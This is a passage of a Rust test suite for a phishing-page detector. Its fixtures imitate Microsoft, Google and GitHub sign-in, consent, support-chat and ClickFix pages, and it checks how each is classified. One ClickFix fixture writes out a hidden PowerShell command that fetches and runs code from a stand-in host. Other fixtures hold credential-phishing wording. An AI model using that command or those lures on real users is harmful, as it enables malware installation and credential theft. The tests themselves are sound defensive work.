                .text_line("Microsoft アカウントのパスワードは、ほかのサイトでは決して入力しないでください。")
                .form("https://help.tallowmark.example/login", "Tallowmark ログイン メールアドレス パスワード")
                .email()
                .password("パスワード"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a Japanese help article under a Japanese brand: advice about the Gmail and Microsoft passwords",
            page("https://help.sasanqua-notes.example/articles/password")
                .title("安全なパスワードの作り方 - ササンカノート ヘルプ")
                .banner("ササンカノート ヘルプ")
                .heading("安全なパスワードの作り方")
                .text_line("パスワードを再利用しないでください。特に、Gmail で使っているパスワードを再利用しないでください。")
                .text_line("Microsoft アカウントのパスワードは、ほかのサイトでは決して入力しないでください。")
                .form("https://help.sasanqua-notes.example/login", "ササンカノートにログイン メールアドレス パスワード")
                .email()
                .password("パスワード"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a Japanese card under a Japanese brand naming Microsoft in a short line, no advice",
            page("https://kyuyo-meisai-portal.com/meisai/unlock")
                .title("レジャーラーク給与 - 給与明細")
                .banner("レジャーラーク給与")
                .text_line("Microsoft アカウントで確認")
                .form("https://kyuyo-meisai-portal.com/meisai/session", "メールアドレス パスワード")
                .email()
                .password("パスワード"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a Japanese shop's own login under a Japanese brand, longer sentences naming Google",
            page("https://mypage.kusunoki-zakka.example/login")
                .title("ログイン - くすのき雑貨店 会員ページ")
                .banner("くすのき雑貨店")
                .heading("会員ページにログイン")
                .text_line("Google アカウントでログインすると、注文履歴とお気に入りがスマートフォンと同期されます。")
                .text_line("Google のアカウントをお持ちでない方も、メールアドレスで会員登録できます。")
                .form("https://mypage.kusunoki-zakka.example/session", "メールアドレス パスワード ログイン")
                .email()
                .password("パスワード"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a sign-up page's advice not to reuse the password used for Gmail",
            signup("Don't reuse the password you use for Gmail."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a password manager's import of the passwords saved in Google Chrome",
            page("https://vault.keyharbor.app/import")
                .title("Keyharbor - Import")
                .heading("Keyharbor")
                .text_line("Import the passwords you saved in Google Chrome")
                .form("https://vault.keyharbor.app/unlock", "Master password Unlock Keyharbor")
                .password("Master password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a help article warning never to enter the password used for a Microsoft account elsewhere",
            page("https://help.tallowmark.example/articles/phishing")
                .title("Spotting phishing - Tallowmark Help")
                .heading("Spotting phishing")
                .text_line("Never enter the password you use for your Microsoft account on another site.")
                .form("https://help.tallowmark.example/login", "Tallowmark login Email Password")
                .email()
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a site's own login beside a Sign in with Google button",
            page("https://app.quillmere.example/login")
                .title("Log in to Quillmere")
                .heading("Log in to Quillmere")
                .text_line_in("Sign in with Google", "Sign in with Google")
                .form("https://app.quillmere.example/login", "Email Password Log in")
                .email()
                .password("Password"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
}

#[test]
fn a_publishing_services_footer_is_not_a_claim() {
    let sites = |footer: &str| {
        page("https://sites.google.com/view/chess-club/home")
            .title("Lindenau Chess Club")
            .heading("Lindenau Chess Club")
            .form("https://sites.google.com/view/chess-club/home", "")
            .email()
            .text_line(footer)
    };
    check(vec![
        case("the Sites footer", sites("Google Sites · Report abuse"), Level::None, &[], &["origin.content-host"]),
        case(
            "the footer in German",
            sites("Google Sites · Missbrauch melden"),
            Level::None,
            &[],
            &["origin.content-host"],
        ),
        case(
            "a Google sign-in card on Sites with the same footer",
            sites("Google Sites · Report abuse").heading("Sign in to Google").password("Password"),
            Level::Danger,
            &["origin.content-host"],
            &[],
        ),
    ]);
}

/// An approval page on a provider's genuine host: an app named as the provider's own ("Microsoft
/// 365 Security Scan", "GitHub Security Alerts") that asks for more than signing in, with no
/// publisher the page vouches for as that provider, is caution; the provider's verified own
/// publisher, a sign-in request, an app's own name before the product ("Zoom for Outlook") and an
/// ordinary name are not.
#[test]
fn an_app_named_as_the_providers_own_is_caution_without_the_provider_behind_it() {
    let ms = |app: &str, scope: &str| {
        let url = format!(
            "https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=6b1d2c3e-4f50-4a61-8b72-93a4b5c6d7e8&response_type=code&prompt=consent&redirect_uri=https%3A%2F%2Fscan.fabrikam.net%2Fauth&scope={scope}&state=x"
        );
        page(&url)
            .title("Sign in to your account")
            .logo("Microsoft")
            .heading("Permissions requested")
            .text(&format!(
                "megan.bowen@contoso.com\nPermissions requested\n{app}\nThis app would like to:\nRead and write access to your mail\nAccepting these permissions means that you allow this app to use your data."
            ))
            .form("https://login.microsoftonline.com/common/Consent/Set", "")
            .buttons(&["Cancel", "Accept"])
            .resources(&["aadcdn.msftauth.net"])
    };
    let mail = "Mail.ReadWrite%20Files.ReadWrite.All%20offline_access%20User.Read";
    let low = "openid%20profile%20User.Read";
    const RULE: &[&str] = &["request.official-name"];
    let mut cases = vec![
        case("unverified, brand first", ms("Microsoft 365 Security Scan\nunverified", mail), Level::Caution, RULE, &[]),
        case("product first", ms("Outlook Mail Sync\nunverified", mail), Level::Caution, RULE, &[]),
        case(
            "a verified publisher that is not the provider",
            ms("Microsoft 365 Security Scan\nFabrikam Ltd\nVerified", mail),
            Level::Caution,
            RULE,
            &[],
        ),
        case(
            "the provider's name as publisher without the verified mark",
            ms("Microsoft 365 Security Scan\nMicrosoft Corporation", mail),
            Level::Caution,
            RULE,
            &[],
        ),
        case(
            "the provider's verified publisher",
            ms("Microsoft 365 Security Scan\nMicrosoft Corporation\nVerified", mail),
            Level::Genuine,
            &[],
            RULE,
        ),
        case("sign-in scopes only", ms("Microsoft 365 Security Scan\nunverified", low), Level::Genuine, &[], RULE),
        case("the app's own name first", ms("Zoom for Outlook\nunverified", mail), Level::Genuine, &[], RULE),
        case("an ordinary name", ms("Mail Summary Assistant\nunverified", mail), Level::Genuine, &[], RULE),
    ];
    // The provider's sign-in page for its own app ("to continue to Outlook") is no approval.
    let sign_in = page(&format!(
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=d3590ed6-52b3-4102-aeff-aad2292ab01c&response_type=code&scope={mail}&redirect_uri=https%3A%2F%2Foutlook.office.com%2Fmail"
    ))
    .title("Sign in to your account")
    .logo("Microsoft")
    .heading("Sign in")
    .text("Sign in\nto continue to Outlook\nNo account? Create one!")
    .form("https://login.microsoftonline.com/common/login", "")
    .input(InputKind::Identifier, "i0116", "loginfmt", "Email, phone, or Skype")
    .buttons(&["Next"])
    .resources(&["aadcdn.msftauth.net"]);
    cases.push(case("the provider's sign-in for its own app", sign_in, Level::Genuine, &[], RULE));
    // GitHub names the owner; an owner other than GitHub under GitHub's name is the lure.
    let gh = |line: &str| {
        let genuine = github_approval();
        let url = "https://github.com/login/oauth/authorize?client_id=Ov23liSecAlerts9f1&redirect_uri=https%3A%2F%2Falerts.fabrikam.net%2Fcb&scope=repo%20read%3Aorg&state=x";
        Page {
            snap: consent_guard::PageSnapshot { url: url.into(), text: line.into(), ..genuine.snap },
            ctx: page(url).ctx,
        }
    };
    cases.push(case(
        "GitHub's name, another owner",
        gh("GitHub Security Alerts by sec-alerts-bot wants to access your monalisa account"),
        Level::Caution,
        RULE,
        &[],
    ));
    cases.push(case(
        "GitHub's own app",
        gh("GitHub Security Alerts by github wants to access your monalisa account"),
        Level::Genuine,
        &[],
        RULE,
    ));
    // Azure DevOps vouches for no publisher: the company shown is what the registrant typed.
    let mut ado = azure_devops_approval();
    ado.snap.text = "Azure DevOps Security Scanner by Microsoft would like permission to access your Azure DevOps resources. Code (read and write)".into();
    cases.push(case("Azure DevOps's name, a typed company", ado, Level::Caution, RULE, &[]));
    check(cases);
}

/// Microsoft's own apps are known by their client id (`publisher.firstParty` in
/// `data/providers.json`): Graph PowerShell asking for the directory on Microsoft's genuine page is
/// the provider's own, named as the data names it, with no verified mark read (an icon the text
/// does not carry, or none); the same name and page with another client id is the lure.
#[test]
fn the_providers_own_app_is_known_by_its_client_id_not_its_name() {
    let ms = |client_id: &str, shown: &str| {
        let url = format!(
            "https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id={client_id}&response_type=code&prompt=consent&redirect_uri=http%3A%2F%2Flocalhost%3A53100&scope=https%3A%2F%2Fgraph.microsoft.com%2FDirectory.ReadWrite.All%20offline_access%20User.Read&state=x"
        );
        page(&url)
            .title("Sign in to your account")
            .logo("Microsoft")
            .heading("Permissions requested")
            .text(&format!(
                "megan.bowen@contoso.com\nPermissions requested\n{shown}\nThis app would like to:\nRead and write directory data\nAccepting these permissions means that you allow this app to use your data."
            ))
            .form("https://login.microsoftonline.com/common/Consent/Set", "")
            .buttons(&["Cancel", "Accept"])
            .resources(&["aadcdn.msftauth.net"])
    };
    const GRAPH: &str = "14d82eec-204b-4c2f-b7e8-296a70dab67e";
    const OTHER: &str = "3c5a7e91-0b2d-4f6a-8c1e-5d7f9a0b2c4e";
    const RULES: &[&str] = &["request.official-name", "request.critical-unverified"];
    let name = "Microsoft Graph Command Line Tools";
    check(vec![
        case(
            "Graph PowerShell, no mark read",
            ms(GRAPH, &format!("{name}\nMicrosoft Corporation")),
            Level::Genuine,
            &[],
            RULES,
        ),
        case("Graph PowerShell, no publisher line", ms(GRAPH, name), Level::Genuine, &[], RULES),
        case(
            "another client id under the same name",
            ms(OTHER, &format!("{name}\nMicrosoft Corporation")),
            Level::Caution,
            &["request.official-name"],
            &[],
        ),
        case("another client id, unverified", ms(OTHER, &format!("{name}\nunverified")), Level::Caution, RULES, &[]),
    ]);
    // The name comes from the data, not from the page.
    let engine = Engine::new(Policy::default());
    let p = ms(GRAPH.to_uppercase().as_str(), "Contoso Directory Helper\nunverified");
    let v = engine.evaluate(&p.snap, &p.ctx);
    assert_eq!(v.level, Level::Genuine, "{v:#?}");
    let request = &v.request.as_ref().expect("the request").request;
    assert_eq!((request.app_name.as_deref(), request.first_party), (Some(name), true));
    let p = ms(OTHER, "Contoso Directory Helper\nunverified");
    let v = engine.evaluate(&p.snap, &p.ctx);
    let request = &v.request.as_ref().expect("the request").request;
    assert_eq!((request.app_name.as_deref(), request.first_party), (Some("Contoso Directory Helper"), false));
    assert_eq!(rules(&v), ["request.critical-unverified"]);
}

/// A page of Microsoft's "Stay signed in?" step on `url`, as a kit draws it: the brand, the step
/// as the card's heading, Yes and No.
fn stay_signed_in(url: &str) -> Page {
    page(url)
        .title("Sign in to your account")
        .banner("Microsoft")
        .heading("Stay signed in?")
        .text("Microsoft\nmegan.bowen@contoso.com\nStay signed in?\nStay signed in so you don't have to sign in again next time.\nNo\nYes")
        .buttons(&["No", "Yes"])
}

#[test]
fn a_step_of_a_providers_sign_in_with_no_field_is_an_ask() {
    let choose = |url: &str, heading: &str, lines: &str| {
        page(url).title("Sign in - Google Accounts").banner("Google").heading(heading).text(lines)
    };
    check(vec![
        case(
            "Stay signed in? off Microsoft's sites",
            stay_signed_in("https://tenant-session-keepalive.com/kmsi"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Google's account chooser off Google's sites: account tiles",
            choose(
                "https://workspace-login-check.com/accountchooser",
                "Choose an account",
                "Google\nChoose an account\nto continue to Gmail\nMegan Bowen\nmegan.bowen@gmail.com\nUse another account",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the step in an image's words, in German",
            page("https://konto-sitzung.example/")
                .title("Microsoft")
                .banner("Microsoft")
                .logo("Angemeldet bleiben? kmsi-titel.png")
                .text("Microsoft\nNicht erneut fragen\nNein\nJa")
                .buttons(&["Nein", "Ja"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Japanese account picker",
            page("https://account-pick.example/")
                .title("Microsoft アカウント")
                .banner("Microsoft")
                .heading("アカウントを選択する")
                .text("Microsoft\nアカウントを選択する\nmegan.bowen@contoso.com\n別のアカウントを使用する"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Spanish Stay signed in?, the step and the brand in the title",
            page("https://sesion-mantener.example/")
                .title("¿Quiere mantener la sesión iniciada? - Microsoft")
                .banner("Microsoft")
                .text("megan.bowen@contoso.com\n¿Quiere mantener la sesión iniciada?\nSí\nNo")
                .buttons(&["Sí", "No"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Google's \"Check your phone\" prompt off Google's sites (redteam10)",
            choose(
                "https://accounts-signin-check.example/signin/challenge/dp",
                "Check your phone",
                "Google\nCheck your phone\nGoogle sent a notification to your Pixel 8. Tap Yes on the notification, then tap 62 on your phone to verify it's you.\n62\nDon't ask again on this device\nTry another way",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "the same prompt whose \"Try another way\" link sits on the checkbox's line",
            choose(
                "https://accounts-signin-check.example/signin/challenge/dp",
                "Check your phone",
                "Google\nCheck your phone\nGoogle sent a notification to your Pixel 8. Tap Yes on the notification, then tap 62 on your phone to verify it's you.\n62\nDon't ask again on this device Try another way",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "Google's \"Verify it's you\" with only a drawing for a logo: Google checks the person in a line (redteam12)",
            page("https://account-protect-verify.example/signin/challenge/qr/")
                .title("Verify it’s you")
                .heading("Verify it’s you")
                .text(
                    "Verify it’s you\nTo help keep your account safe, Google wants to make sure it’s really you\n\
                     Unusual activity was detected on daniel.kim@gmail.com. Use your phone to verify it's you.\n\
                     Open the camera on your phone\nPoint it at the QR code\nTry another way",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a shop's own \"Verify it's you\" whose line only names Gmail: no claim",
            page("https://shop.example/verify")
                .title("Verify it’s you")
                .heading("Verify it’s you")
                .text(
                    "Verify it’s you\nWe sent a sign-in link to your Gmail address. Gmail may put it in Promotions.\n\
                     Use another account",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "an article titled as a step quoting Google's line at length: no claim",
            page("https://blog.example/verify-its-you")
                .title("Verify it’s you")
                .heading("Verify it’s you")
                .text(&format!(
                    "Verify it’s you\nWhen Google wants to make sure it’s really you, it shows this screen.\n{}\nTry another way",
                    "Here is what each option on that screen does and when you should pick it. ".repeat(30)
                )),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a bank's own \"Check your phone\": no claim",
            page("https://secure.northbank.example/login/approve")
                .title("Northbank")
                .heading("Check your phone")
                .text("Northbank\nCheck your phone\nApprove the sign-in in the Northbank app.\nTry another way"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // the same step on Microsoft's own sign-in host is no imitation
        case(
            "Stay signed in? on login.microsoftonline.com",
            stay_signed_in("https://login.microsoftonline.com/common/SAS/ProcessAuth"),
            Level::Genuine,
            &[],
            &["origin.untrusted-host"],
        ),
        // an article about the step: its heading says more than the step
        case(
            "How to turn off the Stay signed in? prompt",
            page("https://it-notes.example/kmsi")
                .title("How to turn off the Microsoft 365 Stay signed in? prompt")
                .heading("How to turn off the Stay signed in? prompt")
                .heading("Microsoft 365")
                .text("Screenshot: Stay signed in?\nYes\nNo"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // the step's heading with nothing to choose: no step shown
        case(
            "a step heading with no choice",
            page("https://it-notes.example/faq").title("Microsoft").heading("Stay signed in?").text("Microsoft\nStay signed in?\nAsk your administrator."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // a long page: an article, whatever its headings
        case(
            "a long article headed with the step",
            stay_signed_in("https://it-notes.example/long").text(&format!("Microsoft\nStay signed in?\nYes\n{}", "The prompt explained at length. ".repeat(60))),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // a long page whose step heading heads a short card: the choice among the card's controls
        case(
            "a step card padded with a long notice",
            page("https://keep-session.example/kmsi")
                .title("Sign in to your account")
                .banner("Microsoft")
                .heading("Stay signed in?")
                .card("No\nYes")
                .text(&format!("Microsoft\nStay signed in?\nNo\nYes\n{}", "Terms of the session. ".repeat(90)))
                .buttons(&["No", "Yes"]),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a long page's step heading whose card offers no choice (a section with a link)",
            page("https://it-docs.example/kmsi")
                .title("Microsoft 365: Stay signed in?")
                .banner("Microsoft 365")
                .heading("Stay signed in?")
                .card("Learn more about session lifetime")
                .text(&format!("Microsoft 365\nStay signed in?\n{}\nWas this page helpful?\nYes\nNo", "The prompt explained at length. ".repeat(60)))
                .buttons(&["Yes", "No"]),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a long page whose step is only its title",
            page("https://it-docs.example/kmsi-title")
                .title("Stay signed in? - Microsoft")
                .banner("Microsoft")
                .text(&format!("Microsoft\nNo\nYes\n{}", "The prompt explained at length. ".repeat(60)))
                .buttons(&["No", "Yes"]),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // a company's own chooser: its brand, the provider only in a federation button
        case(
            "a company's own account chooser",
            page("https://app.slackwise.example/choose")
                .title("Choose an account - Slackwise")
                .banner("Slackwise")
                .heading("Choose an account")
                .text("Slackwise\nChoose an account\nmegan@northwind.example\nUse another account\nContinue with Google")
                .buttons(&["Continue with Google"]),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
    let v = evaluate(&stay_signed_in("https://tenant-session-keepalive.com/kmsi"));
    let step = v.findings[0].evidence.iter().find(|e| e.key.is_some()).expect("the step's evidence");
    assert_eq!(step.label, EvidenceLabel::Heading);
    assert_eq!(step.params, ["\"Stay signed in?\"", "Microsoft"]);
    assert_eq!(v.page, PageKind::SignIn);
    assert!(v.facts.asks.contains(&"step".to_string()), "{:?}", v.facts);
}

#[test]
fn a_site_talking_about_a_provider_claims_nothing() {
    let sign_in = |host: &str, heading: &str| {
        page(&format!("https://{host}/login"))
            .heading(heading)
            .form(&format!("https://{host}/session"), "Email Password")
            .email()
            .password("Password")
    };
    let token = |host: &str, heading: &str| {
        page(&format!("https://{host}/settings/vcs"))
            .heading(heading)
            .form(&format!("https://{host}/settings/vcs"), "Personal access token")
            .input(InputKind::Password, "gh-token", "token", "Personal access token")
    };
    check(vec![
        case(
            "an add-on named for GitHub above the store's own sign-in",
            sign_in("addons.lumo.example", "File Icons for GitHub and GitLab"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a page that says it signs in to GitHub",
            sign_in("addons.lumo.example", "Sign in to GitHub"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "\"Sign in for GitHub\": sign-in wording before the word for",
            sign_in("addons.lumo.example", "Sign in for GitHub"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a CI service's \"Connect GitHub\" with a token box",
            token("app.brisklane.example", "Connect GitHub"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a company's GitHub App",
            token("app.brisklane.example", "Install the Brisklane GitHub App"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a page that claims GitHub and asks for a token",
            token("github-token-verify.example", "Sign in to GitHub"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "\"the GitHub App\": no company's name before it",
            token("github-token-verify.example", "Verify the GitHub App"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

/// A host named only for what the page is for ("meet-join-portal.com": meet, join) shows no brand
/// of its own: the product it names in its title and heading is the page's claim. A meeting
/// service under its own name that works with the product still only mentions it.
#[test]
fn a_host_named_for_joining_a_meeting_has_no_brand_of_its_own() {
    let join = |url: &str, title: &str, heading: &str, line: &str| {
        page(url)
            .title(title)
            .heading(heading)
            .banner("T")
            .text(&format!("{heading}\nQuarterly business review\nCamera is off\n{line}\nSign in and join now"))
            .buttons(&["Sign in and join now"])
            .form(&format!("{url}join"), "Sign in and join now")
            .input(InputKind::Identifier, "", "email", "Work email")
            .password("Password")
    };
    check(vec![
        case(
            "a Teams pre-join page on a host of generic words",
            join(
                "https://meet-join-portal.com/l/meetup-join/",
                "Join conversation | Microsoft Teams",
                "Microsoft Teams",
                "Your organization requires you to sign in to join this meeting.",
            ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a meeting service's own join page that works with Teams",
            join(
                "https://join.confero.io/",
                "Join meeting | Confero",
                "Confero",
                "Works with Microsoft Teams and Google Meet.",
            )
            .text_line("Works with Microsoft Teams and Google Meet."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "an integration page: Confero for Microsoft Teams",
            join(
                "https://join.confero.io/",
                "Confero for Microsoft Teams",
                "Confero for Microsoft Teams",
                "Sign in to Confero to add it to Microsoft Teams.",
            ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
}

/// A support chat whose "agent" asks for the password or a token in the message box asks for it
/// as a sign-in does; a shop's chat, a help article that says it will never ask, and a forum's
/// reply box under a post about resetting the password do not.
#[test]
fn a_chat_box_asked_to_take_the_password_is_a_password_ask() {
    let chat = |url: &str, title: &str, heading: &str, lines: &str, label: &str| {
        page(url)
            .title(title)
            .heading(heading)
            .banner(heading)
            .text(&format!("{heading}\n{lines}\nSend"))
            .buttons(&["Send"])
            .form(&format!("{url}chat/send"), label)
            .textarea(label)
    };
    check(vec![
        case(
            "a Microsoft support chat asking for the password",
            chat(
                "https://help-desk-live.com/",
                "Microsoft Support \u{2013} Chat with an agent",
                "Microsoft Support",
                "Hello, I am Daniel from Microsoft Account Security.\nTo verify you are the account owner, please type your work email and your current password below.",
                "Type a message…",
            ),
            Level::Danger,
            &["credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "a GitHub support chat asking for the password and a token",
            chat(
                "https://dev-support-desk.com/",
                "GitHub Support \u{2013} Chat",
                "GitHub Support",
                "Please paste your username, password and a personal access token with repo and admin:org scopes here so I can verify ownership.",
                "Write a message…",
            ),
            Level::Danger,
            &["credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "a shop's support chat asking for the order number",
            chat(
                "https://help.greenleaf-garden.shop/",
                "Help centre \u{2013} Greenleaf Garden",
                "Greenleaf Garden",
                "Hi! Can I help with an order? Please share your order number and the postcode it was delivered to.",
                "Type a message…",
            ),
            Level::None,
            &[],
            &["credentials.prompt-off-origin"],
        ),
        case(
            "a help article beside a chat: we will never ask for your password",
            chat(
                "https://support.fabrikam-help.com/",
                "Microsoft 365 sign-in help \u{2013} Fabrikam Help",
                "Microsoft Support",
                "Our agents will never ask for your password. Never share your password or access token in this chat.",
                "Type a message…",
            ),
            Level::None,
            &[],
            &["credentials.prompt-off-origin"],
        ),
        case(
            "a forum reply box under a post about resetting a Microsoft password",
            chat(
                "https://forum.pcfixers.net/t/reset-microsoft-password/",
                "How do I reset my Microsoft password?",
                "Microsoft",
                "I typed my password wrong and my Microsoft account is locked.\nGo to account.live.com, click Forgot password, then enter your new password twice.",
                "Write your reply…",
            ),
            Level::None,
            &[],
            &["credentials.prompt-off-origin"],
        ),
    ]);
}

#[test]
fn a_short_page_claiming_a_provider_that_says_to_paste_a_command_is_an_ask() {
    let long = "ClickFix pages tell the visitor to press Windows + R, then Ctrl + V, then Enter. ".repeat(20);
    check(vec![
        case(
            "Microsoft \"Verify you are human\": Win+R, Ctrl+V, Enter (ClickFix)",
            page("https://access-check-portal.example/")
                .title("Verify you are human")
                .banner("Microsoft")
                .heading("Verify you are human")
                .text("Microsoft\nVerify you are human\nI'm not a robot\nPress Windows + R\nPress Ctrl + V\nPress Enter"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "SharePoint FileFix: paste the path into File Explorer",
            page("https://sp-filedrive.example/sites/hr")
                .title("SharePoint")
                .banner("Microsoft")
                .heading("This file is on a shared drive")
                .text("Microsoft\nThis file is on a shared drive\nOpen File Explorer and select the address bar\nPaste the path and press Enter\nCopy"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        // a CLI's install page: the same steps, no claim of a provider
        case(
            "a CLI's install page",
            page("https://get.shipyard-cli.example/install")
                .title("Install Shipyard CLI")
                .heading("Install the Shipyard CLI")
                .text("Install the Shipyard CLI\nOn Windows, press Win + X, open Terminal and paste:\nirm https://get.shipyard-cli.example/install.ps1 | iex\nCopy"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a Meet microphone card naming Google Meet only in a sentence, with a logo of its own drawing",
            page("https://meet-join-room.example/xcd-jpqw-rbn/")
                .title("Meet – xcd-jpqw-rbn")
                .heading("Problem with your microphone")
                .text(
                    "Problem with your microphone\nGoogle Meet could not start your microphone and camera.\nClick \
                     Try fix to copy the fix\nPress Windows + X, then choose Terminal\nPaste with Ctrl + V and press \
                     Enter\nLearn more Try fix",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a CLI's install page that names GitHub in a sentence",
            page("https://get.shipyard-cli.example/install")
                .title("Install Shipyard CLI")
                .heading("Install the Shipyard CLI")
                .text(
                    "Install the Shipyard CLI\nReleases are published on GitHub.\nOn Windows, press Win + X, open \
                     Terminal and paste:\nirm https://get.shipyard-cli.example/install.ps1 | iex\nCopy",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a help page on the provider's own product, on its own site",
            page("https://support.google.com/meet/answer/mic")
                .title("Fix microphone problems")
                .heading("Fix microphone problems")
                .text(
                    "Fix microphone problems\nGoogle Meet could not start your microphone.\nPress Windows + X, choose \
                     Terminal and paste the command below.",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // an article about the trick naming Microsoft: it says more than a lure
        case(
            "an article about ClickFix",
            page("https://secnotes.example/clickfix")
                .title("ClickFix explained")
                .banner("Microsoft")
                .heading("ClickFix explained")
                .text(&format!("Microsoft\n{long}")),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // the provider's card telling to paste nowhere that runs commands
        case(
            "a Microsoft card that says to paste the code from an e-mail",
            page("https://help.example/verify")
                .title("Microsoft")
                .banner("Microsoft")
                .heading("Enter code")
                .text("Microsoft\nEnter code\nPaste the code we sent you\nNext"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
}

#[test]
fn a_help_page_that_shows_the_command_to_paste_is_no_clickfix() {
    check(vec![
        case(
            "an IT help page: Outlook failed, Win+R, the command shown",
            page("https://support.bittern-it.example/help/outlook-cannot-connect")
                .title("Outlook cannot connect to the server – Bittern IT Support")
                .heading("Outlook cannot connect to the server")
                .text(
                    "Outlook cannot connect to the server\nClose Outlook.\nPress Win+R to open Run.\nType or paste \
                     the command below and press Enter.\nCopy\noutlook.exe /safe\nTo test the network, paste this \
                     in PowerShell:\nCopy\nTest-NetConnection outlook.office365.com -Port 443",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a tech-desk page naming Google Drive, Terminal and a shown killall",
            page("https://techdesk.brookfield.example/mac/google-drive-wont-open")
                .title("Google Drive for desktop won't open | Campus Tech Desk")
                .banner("Mac › Google Drive")
                .heading("Google Drive for desktop won't open")
                .text(
                    "Google Drive for desktop won't open\nQuit Drive from the menu bar. If it is stuck, open \
                     Terminal and paste:\nCopy\nkillall \"Google Drive\"; open -a \"Google Drive\"",
                ),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        // Look-alikes that still warn: the lure shows no command, only a path or a button's words;
        // or it claims the provider, whatever command it shows.
        case(
            "a Microsoft card that shows the PowerShell it copied",
            page("https://access-check-portal.example/")
                .title("Verify you are human")
                .banner("Microsoft")
                .heading("Verify you are human")
                .text(
                    "Microsoft\nVerify you are human\nPress Win+R, paste with Ctrl+V and press Enter:\npowershell -w \
                     hidden -c \"iex (iwr https://cdn-verify-edge.example/c).Content\"",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a card with the provider's logo that shows a harmless command and copies another",
            page("https://teams-meet-join.example/l/meetup-join/")
                .title("Teams")
                .logo("Microsoft Teams")
                .heading("Teams could not start your camera")
                .text(
                    "Teams could not start your camera\nPress Win+R, paste with Ctrl+V and press Enter:\nipconfig \
                     /flushdns\nFix it",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a Teams card with the steps and no command shown",
            page("https://teams-meet-join.example/l/meetup-join/")
                .title("Microsoft Teams")
                .banner("Microsoft Teams")
                .heading("Teams could not start your camera")
                .text("Microsoft Teams\nTeams could not start your camera\nClick Fix it, then:\nPress Win+R\nPress Ctrl+V\nPress Enter\nFix it"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a FileFix card showing only a file path",
            page("https://sp-filedrive.example/sites/hr")
                .title("SharePoint")
                .banner("Microsoft")
                .heading("This file is on a shared drive")
                .text(
                    "Microsoft\nThis file is on a shared drive\nOpen File Explorer and select the address bar\n\
                     Paste the path and press Enter\nC:\\company\\internal-secure\\filedrive\\HRPolicy.docx\nCopy",
                ),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
    ]);
}

#[test]
fn transcripts_in_powershell_and_fish_are_quoted_output() {
    check(vec![
        case(
            "Connect-MgGraph at a PS> prompt",
            page("https://docs.tenanttidy.example/connect").title("Connecting to your tenant").text(
                "Connecting to your tenant\nPS> Connect-MgGraph -Scopes \"User.Read.All\" -UseDeviceCode\nTo \
                     sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the \
                     code D4RTSX2QE to authenticate.",
            ),
            Level::None,
            &[],
            &["lure.device-code"],
